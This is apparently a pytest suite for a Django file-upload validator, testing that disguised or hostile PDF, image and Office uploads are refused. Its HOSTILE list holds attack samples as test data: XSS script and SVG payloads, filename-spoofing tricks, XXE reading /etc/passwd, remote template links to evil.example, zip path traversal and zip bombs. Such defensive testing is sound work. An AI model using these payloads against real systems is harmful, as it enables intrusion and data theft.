"""Uploads: judged by content, never unpacked, refused in plain sentences."""

import hashlib
import io
import tracemalloc
import zipfile

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.utils import translation
from openpyxl import Workbook

from core.scanning import ScanState
from core.uploads import (
    FileKind,
    UploadField,
    check_upload,
)
from tests.core.files import (
    CONTENT_TYPES,
    MAIN,
    PDF,
    RELATION,
    encrypted,
    jpeg,
    lying_about_size,
    office,
    overlapping,
    png,
    uploaded,
)

WORD_TYPES = CONTENT_TYPES.format(part=MAIN["docx"][0], main=MAIN["docx"][1])


def real_workbook() -> bytes:
    book = Workbook()
    for number in range(200):
        book.active.append([number, "the same words again and again"] * 5)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (PDF, "plan.pdf", FileKind.PDF),
        (PDF, "PLAN.PDF", FileKind.PDF),
        (PDF, "version 1.2.final.pdf", FileKind.PDF),
        (PDF, "contract.docx.pdf", FileKind.PDF),
        (png(), "seal.png", FileKind.PNG),
        (jpeg(), "photo.jpg", FileKind.JPG),
        (jpeg(), "photo.jpeg", FileKind.JPG),
        (jpeg() + b"camera's own data", "photo.jpg", FileKind.JPG),
        (office("docx"), "plan.docx", FileKind.DOCX),
        (office("xlsx"), "budget.xlsx", FileKind.XLSX),
        (real_workbook(), "budget.xlsx", FileKind.XLSX),
        (
            office(
                parts={"word/_rels/document.xml.rels": RELATION.format(kind="hyperlink", target="https://demo.example")}
            ),
            "link.docx",
            FileKind.DOCX,
        ),
        (
            office(
                parts={
                    "word/_rels/settings.xml.rels": RELATION.format(
                        kind="attachedTemplate", target="file:///C:\\Users\\a\\n.dotx"
                    )
                }
            ),
            "t.docx",
            FileKind.DOCX,
        ),
        (office(parts={"word/media/image1.png": png()}), "picture.docx", FileKind.DOCX),
    ],
)
def test_an_honest_file_is_accepted_and_described(content, name, kind):
    file = uploaded(content, name)

    info = check_upload(file)

    assert (info.kind, info.content_type, info.size, info.safe_name) == (kind, kind.content_type, len(content), name)
    assert info.sha256 == hashlib.sha256(content).hexdigest()
    assert info.scan.state == ScanState.NOT_SCANNED
    assert file.read() == content


HOSTILE = [
    (b"MZ\x90\x00" + b"\x00" * 100, "setup.exe", "type"),
    (b"MZ\x90\x00" + b"\x00" * 100, "plan.pdf", "content"),
    (b"<html><script>alert(1)</script></html>", "page.html", "type"),
    (b"<html><script>alert(1)</script></html>", "plan.pdf", "content"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "logo.svg", "type"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "logo.png", "content"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "logo.jpg", "content"),
    (PDF, "plan.pdf.exe", "type"),
    (PDF, "plan.exe.pdf", "double"),
    (PDF, "plan.html .pdf", "double"),
    (PDF, "plan.php.PDF", "double"),
    (PDF, "plan.pdf\u202efdp.exe", "type"),
    (PDF, "plan.pdf\x00.exe", "type"),
    (PDF, "plan", "type"),
    (PDF, ".pdf", "type"),
    (PDF, "", "type"),
    (PDF, "plan.png", "content"),
    (png(), "plan.pdf", "content"),
    (b"<html>" + PDF, "plan.pdf", "content"),
    (PDF[:-8], "plan.pdf", "damaged"),
    (png(behind=b"PK\x03\x04"), "seal.png", "hidden"),
    (png()[:-6], "seal.png", "damaged"),
    (png(60_000, 60_000), "seal.png", "pixels"),
    (jpeg(60_000, 60_000), "photo.jpg", "pixels"),
    (jpeg(0, 5), "photo.jpg", "pixels"),
    (jpeg()[:30], "photo.jpg", "damaged"),
    (b"\xff\xd8\xff", "photo.jpg", "damaged"),
    (office("docx"), "plan.xlsx", "content"),
    (office("xlsx"), "plan.docx", "content"),
    (b"PK\x03\x04" + b"\x00" * 200, "plan.docx", "damaged"),
    (office()[:-10], "plan.docx", "damaged"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "plan.docx", "locked"),
    (encrypted(office()), "plan.docx", "locked"),
    (office(parts={"word/vbaProject.bin": b"macro"}), "plan.docx", "macros"),
    (
        office(
            content_types=WORD_TYPES.replace(
                "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
            )
        ),
        "plan.docx",
        "macros",
    ),
    (office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"}), "plan.xlsx", "macros"),
    (office(parts={"word/embeddings/setup.exe": b"MZ"}), "plan.docx", "program"),
    (office(parts={"word/afchunk.html": "<script/>"}), "plan.docx", "program"),
    (
        office(parts={"word/styles.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
        "plan.docx",
        "entities",
    ),
    (office(parts={"word/styles.xml": "<a>" + " " * 65_530 + "<!DOCTYPE a></a>"}), "plan.docx", "entities"),
    (
        office(parts={"word/styles.xml": '\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16-le")}),
        "plan.docx",
        "entities",
    ),
    (
        office(parts={"word/styles.xml": '\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16-be")}),
        "plan.docx",
        "entities",
    ),
    (
        office(parts={"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-'}),
        "plan.docx",
        "entities",
    ),
    (
        office(content_types='<!DOCTYPE a [<!ENTITY b "bbbb">]>' + WORD_TYPES.partition("?>")[2]),
        "plan.docx",
        "entities",
    ),
    (
        office(
            parts={
                "word/_rels/settings.xml.rels": RELATION.format(
                    kind="attachedTemplate", target="http://evil.example/a.dotm"
                )
            }
        ),
        "plan.docx",
        "entities",
    ),
    (
        office(
            parts={
                "word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate", target="file://server/a.dotm")
            }
        ),
        "plan.docx",
        "entities",
    ),
    (
        office(
            parts={
                "word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate", target="\\\\server\\a.dotm")
            }
        ),
        "plan.docx",
        "entities",
    ),
    (
        office(
            parts={
                "word/_rels/document.xml.rels": RELATION.format(
                    kind="oleObject", target="mhtml:http://evil.example!x-usc:http"
                )
            }
        ),
        "plan.docx",
        "entities",
    ),
    (office(parts={"word/_rels/document.xml.rels": "<Relationships"}), "plan.docx", "damaged"),
    (office(parts={"../../etc/cron.d/a": b"x"}), "plan.docx", "damaged"),
    (office(parts={"/etc/passwd": b"x"}), "plan.docx", "damaged"),
    (office(parts={"C:/windows/a": b"x"}), "plan.docx", "damaged"),
    (office(parts={"WORD/document.xml": "<other/>"}), "plan.docx", "damaged"),
    (office(parts={f"word/{number}.xml": "" for number in range(2_100)}), "plan.docx", "bomb"),
    (office(parts={"word/media/zeros.bin": b"\x00" * 3_000_000}), "plan.docx", "bomb"),
    (lying_about_size(office(parts={"word/big.xml": "a" * 900_000}), "word/big.xml", 10), "plan.docx", "bomb"),
    (lying_about_size(office(parts={"word/big.xml": "abc"}), "word/big.xml", 10), "plan.docx", "damaged"),
    (overlapping(), "plan.docx", "bomb"),
]


@pytest.mark.parametrize(("content", "name", "code"), HOSTILE)
def test_a_hostile_file_is_refused_with_a_plain_sentence(content, name, code):
    file = SimpleUploadedFile("x", content)
    file._name = name  # past what Django strips from names

    with translation.override("en"), pytest.raises(ValidationError) as refusal:
        check_upload(file)

    (sentence,) = refusal.value.messages
    assert refusal.value.code == code
    assert sentence[0].isupper() and sentence.endswith(".")


def test_a_bomb_is_refused_in_flat_memory():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", WORD_TYPES)
        with archive.open("word/document.xml", "w") as member:
            for _piece in range(60):
                member.write(b" " * 1_000_000)
    bomb = lying_about_size(
        buffer.getvalue(), "word/document.xml", 5_000_000
    )  # 60 MB that say they are 5, packed 86 times

    tracemalloc.start()
    with pytest.raises(ValidationError) as refusal:
        check_upload(uploaded(bomb, "plan.docx"))
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert refusal.value.code == "bomb"
    assert peak < 3_000_000


def test_only_the_kinds_asked_for_are_accepted_and_named_in_the_answer():
    with translation.override("en"), pytest.raises(ValidationError) as refusal:
        check_upload(uploaded(PDF, "plan.pdf"), kinds=[FileKind.PNG, FileKind.JPG])
    assert refusal.value.messages == ["Files of this type are not accepted (plan.pdf). Upload PNG or JPG."]


@pytest.mark.parametrize(("content", "code"), [(b"", "empty"), (PDF + b"\n" * 100, "size")])
def test_an_empty_or_too_large_file_is_refused(content, code):
    with pytest.raises(ValidationError) as refusal:
        check_upload(uploaded(content, "plan.pdf"), max_bytes=100)
    assert refusal.value.code == code


def test_a_large_file_that_django_keeps_on_disk_is_read_as_well():
    with TemporaryUploadedFile("plan.pdf", "text/html", 0, None) as file:
        file.write(PDF)
        file.size = len(PDF)
        assert check_upload(file).sha256 == hashlib.sha256(PDF).hexdigest()


class ProofForm(forms.Form):
    proof = UploadField(kinds=[FileKind.PDF, FileKind.DOCX], max_mb=1, label="Proof")


def test_the_field_states_its_limits_and_the_browser_offers_only_its_kinds():
    with translation.override("en"):
        form = ProofForm()
        assert str(form.fields["proof"].help_text) == "PDF or Word (.docx), at most 1 MB."
        assert 'accept=".pdf,.docx"' in form["proof"].as_widget()


def test_the_field_hands_on_what_was_learnt_and_a_clean_name():
    form = ProofForm(files={"proof": uploaded(PDF, "\u8ba1\u5212\u4e66 \u202e(1).pdf")})
    assert form.is_valid()
    proof = form.cleaned_data["proof"]
    assert (proof.name, proof.info.content_type) == ("\u8ba1\u5212\u4e66 (1).pdf", "application/pdf")


@pytest.mark.parametrize(
    ("files", "sentence"),
    [
        ({}, "Choose a file."),
        ({"proof": uploaded(b"", "plan.pdf")}, "This file is empty."),
        (
            {"proof": uploaded(b"hello", "plan.pdf")},
            "This is not a PDF file, although its name says so. Open it, save it as PDF and upload that.",
        ),
        (
            {"proof": uploaded(PDF + b"\n" * 1_100_000, "plan.pdf")},
            "This file has 1.0\xa0MB; at most 1.0\xa0MB are accepted.",
        ),
    ],
)
def test_the_field_says_in_words_what_is_wrong(files, sentence):
    with translation.override("en"):
        assert ProofForm(files=files).errors == {"proof": [sentence]}
